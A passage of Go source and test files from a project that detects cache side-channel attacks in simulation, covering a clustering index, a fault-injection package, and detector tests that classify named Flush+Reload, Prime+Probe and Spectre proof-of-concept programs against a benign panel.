		for j := i + 1; j < n; j++ {
			v := rng.Float64()
			d[i*n+j], d[j*n+i] = v, v
		}
	}
	return func(i, j int) float64 { return d[i*n+j] }
}

func TestBuildDeterministic(t *testing.T) {
	for seed := int64(1); seed <= 5; seed++ {
		dist := randomDist(40, seed)
		a, err := Build(40, 6, dist)
		if err != nil {
			t.Fatal(err)
		}
		b, err := Build(40, 6, dist)
		if err != nil {
			t.Fatal(err)
		}
		a.BuildTime, b.BuildTime = 0, 0
		if !reflect.DeepEqual(a, b) {
			t.Fatalf("seed %d: two builds over the same distances differ", seed)
		}
	}
}

func TestBuildCoversEveryEntryOnce(t *testing.T) {
	for _, tc := range []struct{ n, k, wantK int }{
		{1, 0, 1}, {2, 0, 1}, {7, 3, 3}, {9, 0, 2}, {25, 0, 3}, {100, 0, 5},
		{10, 1, 1}, {10, 10, 10}, {10, 99, 10},
	} {
		ix, err := Build(tc.n, tc.k, randomDist(tc.n, 7))
		if err != nil {
			t.Fatal(err)
		}
		if len(ix.Clusters) != tc.wantK {
			t.Errorf("n=%d k=%d: clusters = %d, want %d", tc.n, tc.k, len(ix.Clusters), tc.wantK)
		}
		seen := make(map[int]int)
		for _, cl := range ix.Clusters {
			seen[cl.Medoid]++
			for _, m := range cl.Members {
				seen[m.Entry]++
			}
		}
		if len(seen) != tc.n {
			t.Errorf("n=%d k=%d: covered %d entries, want %d", tc.n, tc.k, len(seen), tc.n)
		}
		for e, c := range seen {
			if c != 1 {
				t.Errorf("n=%d k=%d: entry %d appears %d times", tc.n, tc.k, e, c)
			}
		}
	}
}

func TestBuildEmptyAndInfinite(t *testing.T) {
	ix, err := Build(0, 0, nil)
	if err != nil || ix.N != 0 || len(ix.Clusters) != 0 {
		t.Fatalf("empty build: %v %+v", err, ix)
	}
	// Entry 3 is unreachable (+Inf from everyone): its MST edges are the
	// heaviest, so with k=2 it must be cut off into a singleton.
	xs := []float64{0, 1, 2}
	dist := func(i, j int) float64 {
		if i == 3 || j == 3 {
			return math.Inf(1)
		}
		return math.Abs(xs[i] - xs[j])
	}
	ix, err = Build(4, 2, dist)
	if err != nil {
		t.Fatal(err)
	}
	var single *Cluster
	for c := range ix.Clusters {
		if ix.Clusters[c].Medoid == 3 {
			single = &ix.Clusters[c]
		}
	}
	if single == nil || len(single.Members) != 0 {
		t.Fatalf("unreachable entry not isolated: %+v", ix.Clusters)
	}
}

func TestExtend(t *testing.T) {
	xs := []float64{0, 1, 10, 11}
	prev, err := Build(4, 2, lineDist(xs))
	if err != nil {
		t.Fatal(err)
	}
	all := append(xs, 2, 12, 100)
	ix := Extend(prev, len(all), lineDist(all))
	if ix == nil {
		t.Fatal("Extend returned nil for a valid append")
	}
	if ix.N != 7 || ix.Extended != 3 {
		t.Fatalf("N=%d Extended=%d, want 7, 3", ix.N, ix.Extended)
	}
	// prev must be untouched.
	if prev.N != 4 || prev.Extended != 0 {
		t.Fatalf("Extend mutated its input: %+v", prev)
	}
	find := func(e int) *Cluster {
		for c := range ix.Clusters {
			if ix.Clusters[c].Medoid == e {
				return &ix.Clusters[c]
			}
			for _, m := range ix.Clusters[c].Members {
				if m.Entry == e {
					return &ix.Clusters[c]
				}
			}
		}
		return nil
	}
	// x=2 joins the {0,1} cluster, x=12 and x=100 the {10,11} cluster,
	// and the radii grow to cover them.
	low, high := find(4), find(5)
	if low == nil || high == nil || low == high {
		t.Fatalf("appended entries misassigned: %+v", ix.Clusters)
	}
	if find(6) != high {
		t.Fatalf("x=100 not assigned to the nearest medoid")
	}
	if got := high.Radius; got != math.Abs(all[high.Medoid]-100) {
		t.Fatalf("radius = %v, want to cover x=100", got)
	}

	if Extend(prev, 4, lineDist(xs)) != prev {
		t.Error("Extend with no new entries should return prev")
	}
	if Extend(prev, 3, nil) != nil {
		t.Error("Extend on a shrunk repository should refuse")
	}
	if Extend(nil, 3, nil) != nil {
		t.Error("Extend(nil) should refuse")
	}
	empty := &Index{}
	if Extend(empty, 3, nil) != nil {
		t.Error("Extend from an empty index should refuse (no medoids)")
	}
}

func TestBuildFailpoint(t *testing.T) {
	defer faultinject.Reset()
	boom := errors.New("injected")
	faultinject.Enable(faultinject.IndexBuild, faultinject.Error(boom))
	if _, err := Build(5, 2, randomDist(5, 1)); !errors.Is(err, boom) {
		t.Fatalf("err = %v, want injected fault", err)
	}
	faultinject.Reset()
	if _, err := Build(5, 2, randomDist(5, 1)); err != nil {
		t.Fatalf("build after reset: %v", err)
	}
}

func TestGauges(t *testing.T) {
	xs := []float64{0, 1, 10}
	ix, err := Build(3, 2, lineDist(xs))
	if err != nil {
		t.Fatal(err)
	}
	g := ix.Gauges()
	if g["clusters"] != 2 || g["entries"] != 3 {
		t.Fatalf("gauges = %v", g)
	}
	if g["max_radius_um"] != uint64(1e6) {
		t.Fatalf("max_radius_um = %d, want 1000000", g["max_radius_um"])
	}
	inf := &Index{N: 1, Clusters: []Cluster{{Medoid: 0, Radius: math.Inf(1)}}}
	if inf.Gauges()["max_radius_um"] != math.MaxUint64 {
		t.Fatal("infinite radius should saturate the gauge")
	}
}
