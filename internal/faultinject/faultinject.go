// Package faultinject provides named failpoints for deterministic
// fault injection in tests. Production code plants a failpoint at the
// places the robustness contract cares about (model building, CST
// measurement, scan workers, stream stages) by calling Fire; tests arm
// a failpoint with an Action (panic, error, sleep, or a custom
// function) and drive the pipeline through the failure they want to
// prove survivable — a panic in one stream target, a scan worker that
// stalls, a CST measurement that errors.
//
// Failpoints are enabled only from tests: nothing outside _test files
// may call Enable, and the disabled fast path — a single atomic load in
// Fire — is all that production binaries ever execute. The catalog of
// planted failpoints is part of the robustness contract and documented
// in docs/ROBUSTNESS.md.
//
// The detail argument to Fire carries the identity of the work item at
// the failpoint (a target name, a worker index), so tests can aim a
// fault at exactly one item of a batch with Match and keep the harness
// deterministic under concurrency.
package faultinject

import (
	"fmt"
	"sync"
	"sync/atomic"
	"time"
)

// Point names one planted failpoint. The constants below are the
// catalog; Fire accepts any Point so tests can also use ad-hoc points
// for their own plumbing.
type Point string

// The planted failpoints.
const (
	// ModelBuild fires at the start of model.Build/BuildCtx with the
	// program name. A panic action here models a malformed target
	// crashing the modeling stage.
	ModelBuild Point = "model.build"
	// ModelCST fires before CST measurement in the modeling pipeline
	// with the program name. An error action here models a failing
	// cache-state measurement.
	ModelCST Point = "model.cst"
	// ScanWorker fires once per (target, entry) work item inside the
	// scan engine's worker loop with an empty detail. A sleep action
	// here models a slow scan worker; a panic action a crashing one.
	ScanWorker Point = "scan.worker"
	// IndexBuild fires at the start of a repository-index construction
	// (internal/index.Build) with the entry count. An error action here
	// models a failed index build; the scan engine must degrade to the
	// flat scan path, never fail classification.
	IndexBuild Point = "index.build"
	// StreamModel fires in the stream pipeline's modeling stage with
	// the target ID, before the model is built.
	StreamModel Point = "stream.model"
	// StreamScan fires in the stream pipeline's scan stage with the
	// target ID, before the repository scan.
	StreamScan Point = "stream.scan"
	// ShardScan fires in the shard coordinator once per (target, shard)
	// scatter with the shard's name, before the shard is scanned. An
	// error action here models a dead or misbehaving shard; the
	// coordinator must degrade to partial results.
	ShardScan Point = "shard.scan"
	// ShardRemoteRPC fires in the remote-shard client before each HTTP
	// request with the request path (e.g. "/scan"), inside the retry
	// loop — an OnCall(1, Error(...)) action models a transient network
	// failure the retry policy must absorb.
	ShardRemoteRPC Point = "shard.remote.rpc"
	// ShardReplicaRPC fires in a replica group (internal/shard) before
	// each replica attempt of a scan, with the replica's name. An error
	// action here models one dead replica of a group — the group must
	// fail over to the next replica and the scan must stay complete; a
	// sleep action models a slow replica the attempt timeout must cut
	// off. The chaos harness (internal/chaos) drives its slow-replica
	// scenarios through this point.
	ShardReplicaRPC Point = "shard.replica.rpc"
	// BreakerProbe fires in the background health prober
	// (internal/breaker) before each probe of a quarantined backend,
	// with the backend's name. An error action models a probe that
	// cannot reach a recovered backend: the breaker must stay open and
	// re-probe later instead of re-admitting blindly.
	BreakerProbe Point = "breaker.probe"
	// VCacheLookup fires in the verdict result cache (internal/vcache)
	// before each lookup with the target's content hash. An error action
	// here models an unavailable cache: the lookup is bypassed and the
	// scan computes uncached — a cache fault must never fail or corrupt
	// a classification.
	VCacheLookup Point = "vcache.lookup"
	// ServeAdmit fires in the detection server's admission gate
	// (internal/serve) with the request's API key, before the token
	// bucket and concurrency cap are consulted. An error action models
	// a failing admission dependency: the request must be shed with 429
	// — never hung, never crashed.
	ServeAdmit Point = "serve.admit"
	// ServeReload fires at the start of the detection server's POST
	// /reload handler with the requested repository path. An error
	// action models a failing repository source: the reload must fail
	// cleanly with the old repository still serving.
	ServeReload Point = "serve.reload"
	// WindowEmit fires in the sliding-window detector just before a
	// window verdict is emitted, with "name#index" identifying the
	// window. An error action models a failing downstream consumer: the
	// verdict must surface the error and later windows must keep
	// flowing — one poisoned window may not stall the stream.
	WindowEmit Point = "window.emit"
)

// Action is what an armed failpoint does when fired: return nil to do
// nothing, return an error to inject a failure through the error path,
// panic to inject a crash, or sleep to inject a stall. detail is the
// work-item identity the firing site supplied.
type Action func(p Point, detail string) error

var (
	armed   atomic.Bool
	mu      sync.Mutex
	actions map[Point]Action
)

// Enable arms a failpoint with an action. Test-only: production code
// never calls Enable, so Fire's disabled fast path is the only cost the
// shipped pipeline pays. Call Reset (typically via t.Cleanup) when the
// test is done.
func Enable(p Point, a Action) {
	mu.Lock()
	defer mu.Unlock()
	if actions == nil {
		actions = make(map[Point]Action)
	}
	actions[p] = a
	armed.Store(true)
}

// Disable disarms one failpoint.
func Disable(p Point) {
	mu.Lock()
	defer mu.Unlock()
	delete(actions, p)
	if len(actions) == 0 {
		armed.Store(false)
	}
}

// Reset disarms every failpoint.
func Reset() {
	mu.Lock()
	defer mu.Unlock()
	actions = nil
	armed.Store(false)
}

// Active reports whether any failpoint is armed.
func Active() bool { return armed.Load() }

// Fire triggers the failpoint: with nothing armed it returns nil after
// one atomic load; with an action armed for p it runs it and returns
// its error (the action may equally panic or sleep). Firing sites treat
// a non-nil error exactly like a failure of the operation the failpoint
// guards.
func Fire(p Point, detail string) error {
	if !armed.Load() {
		return nil
	}
	mu.Lock()
	a := actions[p]
	mu.Unlock()
	if a == nil {
		return nil
	}
	return a(p, detail)
}

// Panic returns an action that panics with v.
func Panic(v any) Action {
	return func(Point, string) error { panic(v) }
}

// Error returns an action that injects err.
func Error(err error) Action {
	return func(p Point, detail string) error {
		return fmt.Errorf("faultinject: %s(%s): %w", p, detail, err)
	}
}

// Sleep returns an action that stalls the firing goroutine for d.
func Sleep(d time.Duration) Action {
	return func(Point, string) error { time.Sleep(d); return nil }
}

// Match wraps an action so it fires only when the firing site's detail
// equals want — e.g. aim a panic at one target of a 16-target stream.
func Match(want string, a Action) Action {
	return func(p Point, detail string) error {
		if detail != want {
			return nil
		}
		return a(p, detail)
	}
}

// OnCall wraps an action so it fires only on the nth call (1-based) of
// the wrapped failpoint, counting every call regardless of detail.
// Under concurrency the nth call is scheduling-dependent; prefer Match
// when the firing site supplies a detail.
func OnCall(n int64, a Action) Action {
	var calls atomic.Int64
	return func(p Point, detail string) error {
		if calls.Add(1) != n {
			return nil
		}
		return a(p, detail)
	}
}

// Chain combines actions: each fires in order until one returns a
// non-nil error (or panics/stalls).
func Chain(as ...Action) Action {
	return func(p Point, detail string) error {
		for _, a := range as {
			if err := a(p, detail); err != nil {
				return err
			}
		}
		return nil
	}
}
