package faultinject

import (
	"errors"
	"testing"
	"time"
)

func TestDisabledFireIsNil(t *testing.T) {
	Reset()
	if Active() {
		t.Fatal("Active with nothing armed")
	}
	if err := Fire(ScanWorker, ""); err != nil {
		t.Fatalf("disabled Fire: %v", err)
	}
}

func TestEnableDisableReset(t *testing.T) {
	t.Cleanup(Reset)
	sentinel := errors.New("injected")
	Enable(ModelCST, Error(sentinel))
	if !Active() {
		t.Fatal("not Active after Enable")
	}
	if err := Fire(ModelCST, "tgt"); !errors.Is(err, sentinel) {
		t.Fatalf("Fire = %v, want %v", err, sentinel)
	}
	// Unarmed points stay silent while another is armed.
	if err := Fire(ScanWorker, ""); err != nil {
		t.Fatalf("unarmed point fired: %v", err)
	}
	Disable(ModelCST)
	if Active() {
		t.Fatal("Active after last Disable")
	}
	if err := Fire(ModelCST, "tgt"); err != nil {
		t.Fatalf("disabled point fired: %v", err)
	}
}

func TestPanicAction(t *testing.T) {
	t.Cleanup(Reset)
	Enable(ModelBuild, Panic("injected crash"))
	defer func() {
		if r := recover(); r != "injected crash" {
			t.Fatalf("recovered %v", r)
		}
	}()
	_ = Fire(ModelBuild, "x")
	t.Fatal("Fire did not panic")
}

func TestSleepAction(t *testing.T) {
	t.Cleanup(Reset)
	Enable(ScanWorker, Sleep(20*time.Millisecond))
	start := time.Now()
	if err := Fire(ScanWorker, ""); err != nil {
		t.Fatalf("Sleep action returned %v", err)
	}
	if d := time.Since(start); d < 20*time.Millisecond {
		t.Fatalf("slept only %v", d)
	}
}

func TestMatchAimsAtOneDetail(t *testing.T) {
	t.Cleanup(Reset)
	sentinel := errors.New("injected")
	Enable(StreamModel, Match("target-7", Error(sentinel)))
	if err := Fire(StreamModel, "target-3"); err != nil {
		t.Fatalf("wrong detail fired: %v", err)
	}
	if err := Fire(StreamModel, "target-7"); !errors.Is(err, sentinel) {
		t.Fatalf("matching detail: %v", err)
	}
}

func TestOnCallFiresNthOnly(t *testing.T) {
	t.Cleanup(Reset)
	sentinel := errors.New("injected")
	Enable(ScanWorker, OnCall(3, Error(sentinel)))
	for i := 1; i <= 5; i++ {
		err := Fire(ScanWorker, "")
		if i == 3 && !errors.Is(err, sentinel) {
			t.Fatalf("call 3: %v", err)
		}
		if i != 3 && err != nil {
			t.Fatalf("call %d: %v", i, err)
		}
	}
}

func TestChainStopsAtFirstError(t *testing.T) {
	t.Cleanup(Reset)
	sentinel := errors.New("injected")
	var after bool
	Enable(ModelCST, Chain(
		Error(sentinel),
		func(Point, string) error { after = true; return nil },
	))
	if err := Fire(ModelCST, ""); !errors.Is(err, sentinel) {
		t.Fatalf("chain: %v", err)
	}
	if after {
		t.Fatal("chain continued past error")
	}
}
