package detect

import (
	"bytes"
	"strings"
	"testing"

	"repro/internal/attacks"
)

func TestRepositorySaveLoadRoundtrip(t *testing.T) {
	orig := repo(t)
	var buf bytes.Buffer
	if err := orig.Save(&buf); err != nil {
		t.Fatal(err)
	}
	loaded, err := LoadRepository(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if len(loaded.Entries) != len(orig.Entries) {
		t.Fatalf("entries %d -> %d", len(orig.Entries), len(loaded.Entries))
	}
	for i, e := range orig.Entries {
		l := loaded.Entries[i]
		if l.Name != e.Name || l.Family != e.Family {
			t.Errorf("entry %d identity changed: %s/%s", i, l.Name, l.Family)
		}
		if l.BBS.Len() != e.BBS.Len() {
			t.Fatalf("entry %d length %d -> %d", i, e.BBS.Len(), l.BBS.Len())
		}
		for j := range e.BBS.Seq {
			a, b := e.BBS.Seq[j], l.BBS.Seq[j]
			if a.Before != b.Before || a.After != b.After || a.Leader != b.Leader ||
				a.FirstCycle != b.FirstCycle || a.HPCValue != b.HPCValue {
				t.Fatalf("entry %d cst %d changed", i, j)
			}
			if strings.Join(a.NormInsns, ";") != strings.Join(b.NormInsns, ";") {
				t.Fatalf("entry %d cst %d instructions changed", i, j)
			}
		}
	}
	// A detector over the loaded repository behaves identically.
	d := NewDetector(loaded)
	poc := attacks.FlushReloadNepoche(attacks.DefaultParams())
	res, _, err := d.Classify(poc.Program, poc.Victim)
	if err != nil {
		t.Fatal(err)
	}
	if res.Predicted != attacks.FamilyFR {
		t.Errorf("loaded repository misclassifies: %s", res.Predicted)
	}
}

func TestLoadRepositoryErrors(t *testing.T) {
	if _, err := LoadRepository(strings.NewReader("not json")); err == nil {
		t.Error("garbage must fail")
	}
	if _, err := LoadRepository(strings.NewReader(`{"version": 99}`)); err == nil {
		t.Error("unknown version must fail")
	}
}
