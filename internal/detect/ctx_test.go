package detect

import (
	"context"
	"errors"
	"reflect"
	"testing"
	"time"

	"repro/internal/attacks"
	"repro/internal/faultinject"
	"repro/internal/model"
	"repro/internal/panicsafe"
	"repro/internal/telemetry"
)

// TestClassifyCtxBackgroundMatchesClassify: the ctx plumbing must not
// change verdicts on the background fast path.
func TestClassifyCtxBackgroundMatchesClassify(t *testing.T) {
	d := NewDetector(repo(t))
	p := attacks.DefaultParams()
	poc := attacks.FlushReloadIAIK(p)
	want, _, err := d.Classify(poc.Program, poc.Victim)
	if err != nil {
		t.Fatal(err)
	}
	got, m, err := d.ClassifyCtx(context.Background(), poc.Program, poc.Victim)
	if err != nil {
		t.Fatal(err)
	}
	if m == nil {
		t.Fatal("nil model")
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("ClassifyCtx = %+v, want %+v", got, want)
	}
}

func TestClassifyCtxCancelled(t *testing.T) {
	d := NewDetector(repo(t))
	d.Telemetry = telemetry.NewCollector()
	p := attacks.DefaultParams()
	poc := attacks.FlushReloadIAIK(p)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, _, err := d.ClassifyCtx(ctx, poc.Program, poc.Victim); !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want context.Canceled", err)
	}
	if got := d.Telemetry.Counter(telemetry.DetectCancellations); got != 1 {
		t.Errorf("detect_cancellations = %d, want 1", got)
	}
}

// TestClassifyCtxDetectorTimeout: the per-classification deadline from
// Detector.Timeout expires the call on its own.
func TestClassifyCtxDetectorTimeout(t *testing.T) {
	d := NewDetector(repo(t))
	d.Telemetry = telemetry.NewCollector()
	d.Timeout = time.Nanosecond
	p := attacks.DefaultParams()
	poc := attacks.FlushReloadIAIK(p)
	if _, _, err := d.ClassifyCtx(context.Background(), poc.Program, poc.Victim); !errors.Is(err, context.DeadlineExceeded) {
		t.Fatalf("err = %v, want context.DeadlineExceeded", err)
	}
	if got := d.Telemetry.Counter(telemetry.DetectCancellations); got == 0 {
		t.Error("detect_cancellations not counted")
	}
}

// batchTargets repeats the repository's own models as batch input; they
// all pass gating (attack models read timers and exceed MinModelLen).
func batchTargets(t *testing.T, n int) []*model.CSTBBS {
	t.Helper()
	r := repo(t)
	out := make([]*model.CSTBBS, n)
	for i := range out {
		out[i] = r.Entries[i%len(r.Entries)].BBS
	}
	return out
}

// TestClassifyBatchCtxBackgroundMatchesClassifyBatch: same verdicts on
// the background fast path, element for element.
func TestClassifyBatchCtxBackgroundMatchesClassifyBatch(t *testing.T) {
	d := NewDetector(repo(t))
	targets := batchTargets(t, 8)
	want := d.ClassifyBatch(targets)
	got, err := d.ClassifyBatchCtx(context.Background(), targets)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(got, want) {
		t.Error("ClassifyBatchCtx and ClassifyBatch results differ")
	}
}

// TestClassifyBatchCtxCancelPrompt cancels a slowed batch mid-scan and
// asserts the 100ms return budget of the robustness contract.
func TestClassifyBatchCtxCancelPrompt(t *testing.T) {
	t.Cleanup(faultinject.Reset)
	faultinject.Enable(faultinject.ScanWorker, faultinject.Sleep(time.Millisecond))
	d := NewDetector(repo(t))
	d.Telemetry = telemetry.NewCollector()
	d.Scan.Workers = 2
	targets := batchTargets(t, 64) // ≥1ms each on 2 workers: long runway
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() {
		_, err := d.ClassifyBatchCtx(ctx, targets)
		done <- err
	}()
	time.Sleep(10 * time.Millisecond)
	cancel()
	start := time.Now()
	select {
	case err := <-done:
		if !errors.Is(err, context.Canceled) {
			t.Fatalf("err = %v, want context.Canceled", err)
		}
		if dur := time.Since(start); dur > 100*time.Millisecond {
			t.Fatalf("cancel-to-return took %v, want < 100ms", dur)
		}
	case <-time.After(2 * time.Second):
		t.Fatal("batch did not return after cancel")
	}
	if got := d.Telemetry.Counter(telemetry.DetectCancellations); got != 1 {
		t.Errorf("detect_cancellations = %d, want 1", got)
	}
}

// TestClassifyBatchRepanics: the non-ctx batch API keeps its loud-crash
// contract when a worker panics.
func TestClassifyBatchRepanics(t *testing.T) {
	t.Cleanup(faultinject.Reset)
	faultinject.Enable(faultinject.ScanWorker, faultinject.OnCall(1, faultinject.Panic("batch crash")))
	d := NewDetector(repo(t))
	defer func() {
		if r := recover(); r != "batch crash" {
			t.Errorf("recovered %v, want batch crash", r)
		}
	}()
	d.ClassifyBatch(batchTargets(t, 2))
	t.Error("ClassifyBatch did not re-panic")
}

// TestClassifyBBSCtxPanicIsErrorNotCrash: the ctx API converts the same
// worker panic into a *panicsafe.PanicError.
func TestClassifyBBSCtxPanicIsErrorNotCrash(t *testing.T) {
	t.Cleanup(faultinject.Reset)
	faultinject.Enable(faultinject.ScanWorker, faultinject.OnCall(1, faultinject.Panic("scored crash")))
	d := NewDetector(repo(t))
	_, err := d.ClassifyBBSCtx(context.Background(), batchTargets(t, 1)[0])
	pe, ok := panicsafe.AsPanic(err)
	if !ok {
		t.Fatalf("err = %v, want *PanicError", err)
	}
	if pe.Value != "scored crash" {
		t.Errorf("panic value = %v", pe.Value)
	}
}
