package detect

import (
	"testing"

	"repro/internal/attacks"
	"repro/internal/benign"
)

// TestFullCorpusClassification classifies every canonical PoC against
// the one-PoC-per-family repository and checks the verdicts. Two PoCs
// are documented hard cases whose best match may fall on the sibling
// family that shares their structure; they must still be detected as
// attacks.
func TestFullCorpusClassification(t *testing.T) {
	d := NewDetector(repo(t))
	want := map[string][]attacks.Family{
		"FR-IAIK":      {attacks.FamilyFR},
		"FR-Mastik":    {attacks.FamilyFR, attacks.FamilySFR}, // batched sweeps sit between FR and its Spectre derivative
		"FR-Nepoche":   {attacks.FamilyFR},
		"FF-IAIK":      {attacks.FamilyFR},
		"ER-IAIK":      {attacks.FamilyFR},
		"PP-IAIK":      {attacks.FamilyPP},
		"PP-Jzhang":    {attacks.FamilyPP, attacks.FamilyFR}, // batched structure
		"S-FR-Idea":    {attacks.FamilySFR},
		"S-FR-Good":    {attacks.FamilySFR, attacks.FamilyFR}, // Spectre-FR contains full FR phases
		"S-FR-Min":     {attacks.FamilySFR, attacks.FamilySPP},
		"S-PP-Trippel": {attacks.FamilySPP},
	}
	for _, poc := range attacks.All(attacks.DefaultParams()) {
		res, _, err := d.Classify(poc.Program, poc.Victim)
		if err != nil {
			t.Fatalf("%s: %v", poc.Name, err)
		}
		if res.Predicted == attacks.FamilyBenign {
			t.Errorf("%s: classified benign (score %.2f)", poc.Name, res.Best.Score)
			continue
		}
		allowed := want[poc.Name]
		ok := false
		for _, fam := range allowed {
			if res.Predicted == fam {
				ok = true
			}
		}
		if !ok {
			t.Errorf("%s: classified %s (best %s %.2f), allowed %v",
				poc.Name, res.Predicted, res.Best.Name, res.Best.Score, allowed)
		}
	}
}

// TestBenignPanelClassification checks a broad benign panel: one
// template of every family across several seeds, all of which must stay
// benign.
func TestBenignPanelClassification(t *testing.T) {
	d := NewDetector(repo(t))
	for _, kind := range benign.Kinds() {
		for _, tmpl := range benign.Templates(kind) {
			prog := benign.MustGenerate(benign.Spec{Kind: kind, Template: tmpl, Seed: 31})
			res, _, err := d.Classify(prog, nil)
			if err != nil {
				t.Fatalf("%s/%s: %v", kind, tmpl, err)
			}
			if res.Predicted != attacks.FamilyBenign {
				t.Errorf("%s/%s: classified %s (best %s %.2f)",
					kind, tmpl, res.Predicted, res.Best.Name, res.Best.Score)
			}
		}
	}
}

// TestMeltdownVariantDetected checks generalization to a transient
// attack type absent from Table II entirely: the Meltdown-type PoC must
// land in the transient-FR neighborhood, never in benign.
func TestMeltdownVariantDetected(t *testing.T) {
	d := NewDetector(repo(t))
	poc := attacks.MeltdownFR(attacks.DefaultParams())
	res, _, err := d.Classify(poc.Program, poc.Victim)
	if err != nil {
		t.Fatal(err)
	}
	if res.Predicted == attacks.FamilyBenign {
		t.Fatalf("Meltdown-FR classified benign (best %s %.2f)", res.Best.Name, res.Best.Score)
	}
	if res.Predicted != attacks.FamilySFR && res.Predicted != attacks.FamilyFR {
		t.Errorf("Meltdown-FR classified %s; expected the transient/FR neighborhood", res.Predicted)
	}
}

// TestEvictTimeVariantDetected: Evict+Time is a third classic technique
// absent from Table II; its eviction sweeps and timer-windowed
// interrogation must land it in an eviction-based attack family.
func TestEvictTimeVariantDetected(t *testing.T) {
	d := NewDetector(repo(t))
	poc := attacks.EvictTime(attacks.DefaultParams())
	res, _, err := d.Classify(poc.Program, poc.Victim)
	if err != nil {
		t.Fatal(err)
	}
	if res.Predicted == attacks.FamilyBenign {
		t.Fatalf("Evict+Time classified benign (best %s %.2f)", res.Best.Name, res.Best.Score)
	}
}

// TestBenignFalsePositiveSweep classifies every benign template across
// several seeds; the false-positive rate must stay under 2%.
func TestBenignFalsePositiveSweep(t *testing.T) {
	if testing.Short() {
		t.Skip("sweep")
	}
	d := NewDetector(repo(t))
	total, fps := 0, 0
	for _, kind := range benign.Kinds() {
		for _, tmpl := range benign.Templates(kind) {
			for seed := int64(100); seed < 105; seed++ {
				prog := benign.MustGenerate(benign.Spec{Kind: kind, Template: tmpl, Seed: seed})
				res, _, err := d.Classify(prog, nil)
				if err != nil {
					t.Fatalf("%s/%s/%d: %v", kind, tmpl, seed, err)
				}
				total++
				if res.Predicted != attacks.FamilyBenign {
					fps++
					t.Logf("FP: %s/%s seed %d -> %s (%.2f)",
						kind, tmpl, seed, res.Predicted, res.Best.Score)
				}
			}
		}
	}
	if rate := float64(fps) / float64(total); rate > 0.02 {
		t.Errorf("false positive rate %.1f%% (%d/%d)", rate*100, fps, total)
	}
}

// TestAttackDetectionSweep varies attack parameters across the whole
// canonical corpus plus extensions; every configuration must be detected
// as an attack (family mixups allowed, benign verdicts not).
func TestAttackDetectionSweep(t *testing.T) {
	if testing.Short() {
		t.Skip("sweep")
	}
	d := NewDetector(repo(t))
	variations := []attacks.Params{
		{Rounds: 3, Lines: 8, Wait: 16, Secret: 2, Threshold: 100},
		{Rounds: 5, Lines: 14, Wait: 30, Secret: 9, Threshold: 100},
		{Rounds: 4, Lines: 10, Wait: 40, Secret: 0, Threshold: 100},
	}
	names := append(attacks.Names(), attacks.ExtensionNames()...)
	total, missed := 0, 0
	for _, name := range names {
		for _, p := range variations {
			poc, err := attacks.ByName(name, p)
			if err != nil {
				t.Fatal(err)
			}
			res, _, err := d.Classify(poc.Program, poc.Victim)
			if err != nil {
				t.Fatalf("%s: %v", name, err)
			}
			total++
			if res.Predicted == attacks.FamilyBenign {
				missed++
				t.Logf("MISS: %s %+v (best %s %.2f)", name, p, res.Best.Name, res.Best.Score)
			}
		}
	}
	if missed > 0 {
		t.Errorf("missed %d/%d attack configurations", missed, total)
	}
}

// TestSpectreBTBVariantDetected: Spectre-v2 (branch target injection) is
// another transient family with no repository model; its gadget+reload
// structure must land in the transient/FR neighborhood, never benign.
func TestSpectreBTBVariantDetected(t *testing.T) {
	d := NewDetector(repo(t))
	poc, err := attacks.ByName("S-BTB", attacks.DefaultParams())
	if err != nil {
		t.Fatal(err)
	}
	res, _, err := d.Classify(poc.Program, poc.Victim)
	if err != nil {
		t.Fatal(err)
	}
	if res.Predicted == attacks.FamilyBenign {
		t.Fatalf("S-BTB classified benign (best %s %.2f)", res.Best.Name, res.Best.Score)
	}
}
