package detect

import (
	"fmt"
	"reflect"
	"testing"

	"repro/internal/attacks"
	"repro/internal/benign"
	"repro/internal/model"
	"repro/internal/mutate"
)

// repoFR builds a repository containing one PoC per attack family, the
// paper's deployment configuration. Building models runs the simulator,
// so the repository is shared across tests.
var sharedRepo *Repository

func repo(t *testing.T) *Repository {
	t.Helper()
	if sharedRepo != nil {
		return sharedRepo
	}
	p := attacks.DefaultParams()
	pocs := []attacks.PoC{
		attacks.FlushReloadIAIK(p),
		attacks.PrimeProbeIAIK(p),
		attacks.SpectreFRIdea(p),
		attacks.SpectrePPTrippel(p),
	}
	r, err := BuildRepository(pocs, model.DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	sharedRepo = r
	return r
}

func TestRepositoryBasics(t *testing.T) {
	r := repo(t)
	if len(r.Entries) != 4 {
		t.Fatalf("entries = %d", len(r.Entries))
	}
	fams := r.Families()
	if len(fams) != 4 {
		t.Errorf("families = %v", fams)
	}
	for _, e := range r.Entries {
		if e.BBS == nil || e.BBS.Len() == 0 {
			t.Errorf("%s: empty model", e.Name)
		}
	}
}

func TestSelfClassification(t *testing.T) {
	r := repo(t)
	d := NewDetector(r)
	p := attacks.DefaultParams()
	poc := attacks.FlushReloadIAIK(p)
	res, m, err := d.Classify(poc.Program, poc.Victim)
	if err != nil {
		t.Fatal(err)
	}
	if m == nil {
		t.Fatal("nil model returned")
	}
	if res.Predicted != attacks.FamilyFR {
		t.Errorf("FR PoC classified as %s (best %s %.2f)",
			res.Predicted, res.Best.Name, res.Best.Score)
	}
	if res.Best.Score < 0.9 {
		t.Errorf("self-similarity score = %.3f, want near 1", res.Best.Score)
	}
}

func TestVariantClassification(t *testing.T) {
	r := repo(t)
	d := NewDetector(r)
	// A different FR implementation (unknown to the repo) must still be
	// classified as the FR family — the core claim of the paper.
	p := attacks.DefaultParams()
	poc := attacks.FlushReloadNepoche(p)
	res, _, err := d.Classify(poc.Program, poc.Victim)
	if err != nil {
		t.Fatal(err)
	}
	if res.Predicted != attacks.FamilyFR {
		t.Errorf("FR-Nepoche classified as %s (best %s %.2f)",
			res.Predicted, res.Best.Name, res.Best.Score)
	}
}

func TestHardVariantStillDetectedAsAttack(t *testing.T) {
	// FR-Mastik's batched sweeps sit between plain FR and its Spectre
	// variant in model space; family assignment may go either way, but
	// it must never be called benign.
	r := repo(t)
	d := NewDetector(r)
	p := attacks.DefaultParams()
	poc := attacks.FlushReloadMastik(p)
	res, _, err := d.Classify(poc.Program, poc.Victim)
	if err != nil {
		t.Fatal(err)
	}
